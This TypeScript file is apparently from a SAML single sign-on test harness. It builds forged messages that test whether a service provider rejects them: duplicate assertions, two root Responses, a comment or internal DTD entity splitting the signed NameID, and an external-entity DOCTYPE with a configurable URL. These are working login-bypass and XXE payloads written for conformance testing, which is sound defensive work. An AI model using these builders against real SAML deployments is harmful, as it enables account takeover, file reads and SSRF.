/**
 * Attacks on the document's shape rather than the signature: a second assertion, a second root, a comment
 * or an entity reference splitting the NameID, a DTD.
 * @see SAML 2.0 Profiles §4.1.4.2 (one assertion), XML 1.0 §2.1 (one root element), SAML 2.0 Security §6.4.1
 *   (no DTDs), Duo Labs 2018 "Duo Finds SAML Vulnerabilities Affecting Multiple Implementations" (CVE-2017-11427…)
 */
import { NS, childElements, newSamlId, serialize } from '#harness/saml';
import {
  COMMENT_NODE,
  ELEMENT_NODE,
  assertionOf,
  editThenSign,
  nameIdOf,
  parseOwn,
  prepare,
  responseOf,
  retarget,
  signatureOf,
  stripSignatures,
  textNodesIn,
  withoutSignature,
} from './dom.js';
import {
  assertionIn,
  ensure,
  ensureSignedInPlace,
  nameIdText,
  onlySend,
  parseBuilt,
  refusalInPlace,
} from './inspect.js';
import { ensureDefects } from './conditions.js';
import type { AttackVector, VectorContext } from './types.js';

/** What the IdP signs for the attacker's own account: the attacker identity plus this suffix (a domain they own). */
export const OWNED_SUFFIX = '.evil.example';
/** The internal entity 'doctype-entities' splits the NameID with. */
export const ENTITY_NAME = 'domain';

/** The value the IdP legitimately signs for an attacker-owned account (`admin@example.com.evil.example`). */
export function ownedIdentity(ctx: VectorContext): string {
  return `${ctx.attacker}${OWNED_SUFFIX}`;
}

/** Replaces every text node under the assertion equal to `value` by the nodes `make` returns. */
function split(doc: Document, value: string, make: (doc: Document) => Node[]): void {
  const assertion = assertionOf(responseOf(doc));
  const matches = textNodesIn(assertion).filter((text) => text.nodeValue === value);
  if (matches.length === 0)
    throw new TypeError(`expected the assertion to carry '${value}' in its NameID, found it nowhere`);
  for (const text of matches) {
    const parent = text.parentNode!;
    const next = text.nextSibling;
    parent.removeChild(text);
    // appendChild where possible: xmldom's insertBefore refuses entity reference nodes (its pre-insertion check).
    for (const node of make(doc)) {
      if (next) parent.insertBefore(node, next);
      else parent.appendChild(node);
    }
  }
}

function twoAssertions(id: 'two-assertions' | 'two-assertions-before'): AttackVector {
  const before = id === 'two-assertions-before';
  const where = before ? 'before' : 'after';
  return {
    id,
    title: `Two assertions: an unsigned one for the attacker ${where} the signed one`,
    expect: 'reject',
    bypassIdentity: 'attacker',
    signs: 'assertion',
    cites: ['SAML-TWO-ASSERTIONS'],
    references: [
      'SAML 2.0 Profiles §4.1.4.2 (<Response> usage)',
      'Somorovsky et al. 2012 (assertion confusion)',
    ],
    async build(ctx) {
      const { doc, response, assertion } = await prepare(ctx, ctx.victim, {
        assertion: true,
        response: false,
      });
      const forgedSource = parseOwn((await ctx.legit(ctx.attacker)).xml);
      const forged = doc.importNode(withoutSignature(assertionOf(responseOf(forgedSource))), true) as Element;
      response.insertBefore(forged, before ? assertion : assertion.nextSibling);
      return {
        sends: [serialize(doc)],
        description:
          `The IdP-signed assertion for ${ctx.victim} and, ${where} it, a second complete assertion for ` +
          `${ctx.attacker} with no signature. A vulnerable SP verifies the signed one and reads the ` +
          `${before ? 'first' : 'last'} (or merges both, the later winning).`,
      };
    },
    async check(ctx, built) {
      const { doc } = onlySend(id, built.sends);
      const assertions = childElements(doc.documentElement!, NS.saml, 'Assertion');
      ensure(
        assertions.length === 2,
        id,
        `the Response must have two Assertion children, found ${assertions.length}`,
      );
      const [signed, forged] = (before ? [assertions[1], assertions[0]] : assertions) as [Element, Element];
      const refusal = refusalInPlace(doc, signed, ctx.idpKey);
      ensure(
        refusal === undefined,
        id,
        `the ${before ? 'second' : 'first'} assertion does not verify: ${refusal ?? ''}`,
      );
      ensure(
        nameIdText(signed) === ctx.victim,
        id,
        `the signed assertion does not name the victim '${ctx.victim}'`,
      );
      ensure(!signatureOf(forged), id, 'the forged assertion is signed');
      ensure(
        nameIdText(forged) === ctx.attacker,
        id,
        `the unsigned assertion does not name the attacker '${ctx.attacker}'`,
      );
    },
  };
}

/** A wrapper that makes a many-rooted message one document, so it can be inspected. */
const WRAPPER = 'sso-harness-roots';

function twoRoots(id: 'two-roots' | 'two-roots-signed-last'): AttackVector {
  const signedLast = id === 'two-roots-signed-last';
  return {
    id,
    title: signedLast
      ? 'Two roots: an unsigned Response for the attacker, then the signed Response (CVE-2022-39299 shape)'
      : 'Two roots: the signed Response followed by an unsigned Response for the attacker',
    expect: 'reject',
    bypassIdentity: 'attacker',
    signs: 'as-legit',
    cites: ['SAML-TWO-ROOTS'],
    references: [
      'XML 1.0 §2.1 (document: exactly one root element)',
      'CVE-2022-39299 (passport-saml)',
      'CVE-2022-39353 (xmldom)',
    ],
    async build(ctx) {
      const { doc } = await prepare(ctx, ctx.victim);
      const forged = parseOwn(serialize(doc));
      stripSignatures(forged);
      const forgedResponse = responseOf(forged);
      forgedResponse.setAttribute('ID', newSamlId());
      const forgedAssertion = assertionOf(forgedResponse);
      forgedAssertion.setAttribute('ID', newSamlId());
      retarget(forgedAssertion, ctx.victim, ctx.attacker);
      // Not a document any more, so text: two serialized roots back to back.
      const roots = [serialize(doc.documentElement!), serialize(forgedResponse)];
      if (signedLast) roots.reverse();
      return {
        sends: [roots.join('')],
        description: signedLast
          ? `An unsigned Response for ${ctx.attacker} followed by a second root: the IdP-signed Response for ` +
            `${ctx.victim}. A vulnerable SP (a lenient parser keeps both roots) verifies the signature it finds ` +
            'anywhere and reads documentElement, the forged first root.'
          : `The IdP-signed Response for ${ctx.victim} followed by a second root: an unsigned Response for ` +
            `${ctx.attacker}. A vulnerable SP verifies the first root and reads the last one (or lets later values win).`,
      };
    },
    async check(ctx, built) {
      ensure(built.sends.length === 1 && built.sends[0] !== undefined, id, 'expected one message to send');
      const text = built.sends[0];
      const doc = parseBuilt(id, `<${WRAPPER}>${text}</${WRAPPER}>`);
      const roots = Array.from(doc.documentElement!.childNodes).filter(
        (node): node is Element => node.nodeType === ELEMENT_NODE,
      );
      ensure(roots.length === 2, id, `the message must have two root elements, found ${roots.length}`);
      ensure(
        roots.every((root) => root.namespaceURI === NS.samlp && root.localName === 'Response'),
        id,
        'both roots must be samlp:Response',
      );
      const [signed, forged] = (signedLast ? [roots[1], roots[0]] : roots) as [Element, Element];
      const signedElements = [signed, ...childElements(signed, NS.saml, 'Assertion')].filter((element) =>
        signatureOf(element),
      );
      ensure(signedElements.length > 0, id, 'the signed root carries no signature');
      for (const element of signedElements) {
        const refusal = refusalInPlace(doc, element, ctx.idpKey);
        ensure(refusal === undefined, id, `the signed root does not verify: ${refusal ?? ''}`);
      }
      ensure(
        nameIdText(assertionIn(id, signed)) === ctx.victim,
        id,
        'the signed root does not name the victim',
      );
      const forgedAssertion = assertionIn(id, forged);
      ensure(!signatureOf(forged) && !signatureOf(forgedAssertion), id, 'the forged root is signed');
      ensure(nameIdText(forgedAssertion) === ctx.attacker, id, 'the forged root does not name the attacker');
    },
  };
}

const commentSplit: AttackVector = {
  id: 'comment-split-nameid',
  title: 'A comment splits the signed NameID: admin@example.com<!---->.evil.example',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'as-legit',
  signedIdentity: ownedIdentity,
  cites: ['SAML-NAMEID-TRUNCATION'],
  references: [
    'Duo Labs 2018 (CVE-2017-11427, CVE-2017-11428, CVE-2017-11429, CVE-2018-0489)',
    'Exclusive XML Canonicalization §3 (comments removed before digesting)',
  ],
  async build(ctx) {
    const owned = ownedIdentity(ctx);
    const prepared = await prepare(ctx, owned);
    // Signed over the DOM with the comment in it: c14n drops the comment, so the IdP's signature covers the whole
    // value, exactly as if the attacker had registered this address and logged in legitimately.
    const xml = editThenSign(prepared, ctx.idpKey, (doc) =>
      split(doc, owned, (d) => [
        d.createTextNode(ctx.attacker),
        d.createComment(''),
        d.createTextNode(OWNED_SUFFIX),
      ]),
    );
    return {
      sends: [xml],
      description:
        `The IdP signs for the attacker's own account '${owned}' (a domain the attacker controls); the NameID is ` +
        `written ${ctx.attacker}<!---->${OWNED_SUFFIX}, which canonicalizes to the same signed value. A careful SP ` +
        `reads the whole text ('${owned}'); a vulnerable one reads the first text node and logs in ${ctx.attacker}.`,
    };
  },
  async check(ctx, built) {
    const id = 'comment-split-nameid';
    const { doc } = onlySend(id, built.sends);
    ensureSignedInPlace(id, doc, ctx.idpKey);
    ensureDefects(id, ctx, doc.documentElement!, []);
    const assertion = assertionIn(id, doc.documentElement!);
    const nameId = nameIdOf(assertion);
    ensure(nameId, id, 'the assertion has no NameID');
    ensure(
      (nameId.textContent ?? '') === ownedIdentity(ctx),
      id,
      `the signed NameID text is not '${ownedIdentity(ctx)}'`,
    );
    ensure(
      nameId.firstChild?.nodeValue === ctx.attacker,
      id,
      `the NameID's first text node is not '${ctx.attacker}'`,
    );
    ensure(
      Array.from(nameId.childNodes).some((node) => node.nodeType === COMMENT_NODE),
      id,
      'the NameID contains no comment node',
    );
  },
};

/** An entity reference node (xmldom has them; the DOM typings dropped the method). */
function entityReference(doc: Document, name: string): Node {
  return (doc as Document & { createEntityReference(name: string): Node }).createEntityReference(name);
}

/** `<!DOCTYPE root [subset]>` — a DTD, which no DOM API here can write, so text. */
function doctype(rootName: string, subset: string): string {
  return `<!DOCTYPE ${rootName} [${subset}]>`;
}

/** The DOCTYPE prologue of a built message and the document after it; a check failure if there is none. */
function splitProlog(id: string, text: string): { prolog: string; body: string } {
  const end = text.indexOf(']>');
  ensure(
    text.startsWith('<!DOCTYPE ') && end > 0,
    id,
    'the message does not start with a DOCTYPE with an internal subset',
  );
  return { prolog: text.slice(0, end + 2), body: text.slice(end + 2) };
}

const doctypeEntities: AttackVector = {
  id: 'doctype-entities',
  title: 'A DOCTYPE whose internal entity completes the signed NameID: admin@example.com&domain;',
  expect: 'reject',
  bypassIdentity: 'attacker',
  signs: 'as-legit',
  signedIdentity: ownedIdentity,
  cites: ['SAML-DOCTYPE', 'SAML-NAMEID-TRUNCATION'],
  references: [
    'SAML 2.0 Security §6.4.1 (no DTDs)',
    'XML 1.0 §4.4.2 (included entities)',
    'OWASP XXE Prevention',
  ],
  async build(ctx) {
    const owned = ownedIdentity(ctx);
    const { doc } = await prepare(ctx, owned);
    // The IdP signed the full value; expanding the entity gives those exact bytes back.
    split(doc, owned, (d) => [d.createTextNode(ctx.attacker), entityReference(d, ENTITY_NAME)]);
    const root = doc.documentElement!;
    return {
      sends: [doctype(root.tagName, `<!ENTITY ${ENTITY_NAME} "${OWNED_SUFFIX}">`) + serialize(root)],
      description:
        `The IdP-signed response for the attacker's own account '${owned}', with a DOCTYPE declaring ` +
        `<!ENTITY ${ENTITY_NAME} "${OWNED_SUFFIX}"> and the NameID written ${ctx.attacker}&${ENTITY_NAME};. A DTD-processing ` +
        `SP expands it and the signature verifies; one that keeps the entity reference as a node and reads the first ` +
        `text node logs in ${ctx.attacker}. Any DOCTYPE must be refused.`,
    };
  },
  async check(ctx, built) {
    const id = 'doctype-entities';
    ensure(built.sends.length === 1 && built.sends[0] !== undefined, id, 'expected one message to send');
    const { prolog, body } = splitProlog(id, built.sends[0]);
    const reference = `&${ENTITY_NAME};`;
    // What a DTD-processing parser sees (the entity expanded) and what one that keeps the reference as its own
    // node sees (modelled by a comment at the same place).
    const expanded = parseBuilt(id, body.split(reference).join(OWNED_SUFFIX));
    const kept = parseBuilt(id, body.split(reference).join('<!---->'));
    const rootName = expanded.documentElement?.tagName ?? '';
    ensure(
      prolog === doctype(rootName, `<!ENTITY ${ENTITY_NAME} "${OWNED_SUFFIX}">`),
      id,
      `the DOCTYPE must declare <!ENTITY ${ENTITY_NAME} "${OWNED_SUFFIX}"> for <${rootName}>`,
    );
    ensure(
      body.includes(`${ctx.attacker}${reference}`),
      id,
      `the NameID is not written ${ctx.attacker}${reference}`,
    );
    ensureSignedInPlace(id, expanded, ctx.idpKey);
    ensureDefects(id, ctx, expanded.documentElement!, []);
    ensure(
      nameIdText(assertionIn(id, expanded.documentElement!)) === ownedIdentity(ctx),
      id,
      `with the entity expanded the NameID is not '${ownedIdentity(ctx)}'`,
    );
    const keptNameId = kept.getElementsByTagNameNS(NS.saml, 'NameID').item(0);
    ensure(
      keptNameId?.firstChild?.nodeValue === ctx.attacker,
      id,
      `the first text node of the NameID is not '${ctx.attacker}'`,
    );
  },
};

/** Default target of the external entity: inert, readable everywhere a DTD processor runs. */
export const DEFAULT_EXTERNAL_ENTITY_URL = 'file:///dev/null';

const doctypeExternal: AttackVector = {
  id: 'doctype-external-entity',
  title: 'A DOCTYPE with an external (SYSTEM) parameter entity in front of a valid response',
  expect: 'reject',
  bypassIdentity: 'victim',
  signs: 'as-legit',
  cites: ['SAML-DOCTYPE'],
  references: ['SAML 2.0 Security §6.4.1 (no DTDs)', 'XML 1.0 §4.2.2 (external entities)', 'CWE-611 (XXE)'],
  async build(ctx) {
    const url = ctx.externalEntityUrl ?? DEFAULT_EXTERNAL_ENTITY_URL;
    if (url.includes('"')) throw new TypeError(`ctx.externalEntityUrl must not contain '"', got ${url}`);
    const { doc } = await prepare(ctx, ctx.victim);
    const root = doc.documentElement!;
    return {
      sends: [doctype(root.tagName, `<!ENTITY % ext SYSTEM "${url}"> %ext;`) + serialize(root)],
      description:
        `A legitimate response for ${ctx.victim} behind a DOCTYPE that loads ${url} as an external parameter entity. ` +
        'A vulnerable SP resolves it (XXE: file read, SSRF) and then logs the victim in; a careful one refuses any DOCTYPE.',
    };
  },
  async check(ctx, built) {
    const id = 'doctype-external-entity';
    ensure(built.sends.length === 1 && built.sends[0] !== undefined, id, 'expected one message to send');
    const { prolog, body } = splitProlog(id, built.sends[0]);
    const doc = parseBuilt(id, body);
    const url = ctx.externalEntityUrl ?? DEFAULT_EXTERNAL_ENTITY_URL;
    ensure(
      prolog === doctype(doc.documentElement?.tagName ?? '', `<!ENTITY % ext SYSTEM "${url}"> %ext;`),
      id,
      `the DOCTYPE must load ${url} as an external parameter entity`,
    );
    ensureSignedInPlace(id, doc, ctx.idpKey);
    ensureDefects(id, ctx, doc.documentElement!, []);
    ensure(
      nameIdText(assertionIn(id, doc.documentElement!)) === ctx.victim,
      id,
      'the NameID is not the victim',
    );
  },
};

/** Shape attacks. */
export const structureVectors: readonly AttackVector[] = [
  twoAssertions('two-assertions'),
  twoAssertions('two-assertions-before'),
  twoRoots('two-roots'),
  twoRoots('two-roots-signed-last'),
  commentSplit,
  doctypeEntities,
  doctypeExternal,
];
